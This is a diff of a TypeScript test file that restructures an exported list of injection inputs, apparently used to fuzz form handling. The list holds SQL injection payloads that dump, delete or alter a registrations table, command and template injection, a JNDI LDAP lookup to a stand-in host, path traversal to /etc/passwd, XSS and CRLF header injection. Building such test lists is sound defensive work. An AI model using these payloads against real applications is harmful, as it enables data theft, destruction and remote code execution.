@@ -8,80 +8,41 @@ export const NAUGHTY: string[] = naughty
 
 /** Each would do something if a part of it were taken for SQL, a template or a path. */
 export const INJECTIONS = [
-	...[
-		`'`,
-		`''`,
-		`"`,
-		'`',
-		`\\'`,
-		`%27`,
-		`\u02bc`,
-		`\uff07`,
-		`;`,
-		`--`,
-		`#`,
-		`/*`,
-		`*/`,
-		`%`,
-		`_`,
-		`?`,
-		`$1`,
-		`:1`,
-		`@p`,
-		`\\`,
-	],
-	...[
-		`' or '1'='1`,
-		`' or 1=1 --`,
-		`" or ""="`,
-		`') or ('1'='1`,
-		`' or 'x' like '%`,
-		`x' and 1=1 --`,
-		`x' and 1=2 --`,
-		`1 or 1=1`,
-	],
-	...[`' union select 1,2,3,4,5,6 --`, `' union all select name, sql, 1, 1, 1, 1 from sqlite_schema --`],
-	...[`' union select email, phone, city, country, course, reference from registrations --`],
-	...[
-		`'; drop table certificates; --`,
-		`'; delete from registrations; --`,
-		`'; update registrations set email = 'x'; --`,
-	],
-	...[
-		`' || (select email from registrations limit 1) || '`,
-		`'||'`,
-		`x'||pg_sleep(60)--`,
-		`'; select pg_sleep(60); --`,
-	],
-	...[`' and randomblob(500000000) is not null --`, `1;attach database 'x.db' as x;--`, `' and load_extension('x') --`],
-	...[
-		`\${1+1}`,
-		`{{1+1}}`,
-		`<%= 1+1 %>`,
-		`#{1+1}`,
-		`\${jndi:ldap://mail.example/x}`,
-		`$(id)`,
-		'`id`',
-		`|id`,
-		`& ping x`,
-	],
-	...[
-		`../../../../etc/passwd`,
-		`..\\..\\win.ini`,
-		`file:///etc/passwd`,
-		`C:\\`,
-		`\u202etxt.exe`,
-		`a\r\nBcc: b@mail.example`,
-	],
-	...[
-		`<script>alert(1)</script>`,
-		`"><img src=x onerror=alert(1)>`,
-		`javascript:alert(1)`,
-		`=1+1`,
-		`@SUM(1)`,
-		`+1`,
-		`-1`,
-	],
+	..."' '' \" ` \\' %27 \u02bc \uff07 ; -- # /* */ % _ ? $1 :1 @p \\ '||' |id =1+1 @SUM(1) +1 -1 C:\\ {{1+1}} #{1+1}".split(
+		' ',
+	),
+	...`' or '1'='1
+' or 1=1 --
+" or ""="
+') or ('1'='1
+' or 'x' like '%
+x' and 1=1 --
+1 or 1=1
+' union select 1,2,3,4,5,6 --
+' union all select name, sql, 1, 1, 1, 1 from sqlite_schema --
+' union select email, phone, city, country, course, reference from registrations --
+'; drop table certificates; --
+'; delete from registrations; --
+'; update registrations set email = 'x'; --
+' || (select email from registrations limit 1) || '
+x'||pg_sleep(60)--
+'; select pg_sleep(60); --
+' and randomblob(500000000) is not null --
+1;attach database 'x.db' as x;--
+' and load_extension('x') --
+<%= 1+1 %>
+$(id)
+& ping x
+../../../../etc/passwd
+..\\..\\win.ini
+file:///etc/passwd
+<script>alert(1)</script>
+"><img src=x onerror=alert(1)>
+javascript:alert(1)`.split('\n'),
+	`\${1+1}`,
+	`\${jndi:ldap://mail.example/x}`,
+	`\u202etxt.exe`,
+	`a\r\nBcc: b@mail.example`,
 ]
 
 type Form = Record<string, unknown>
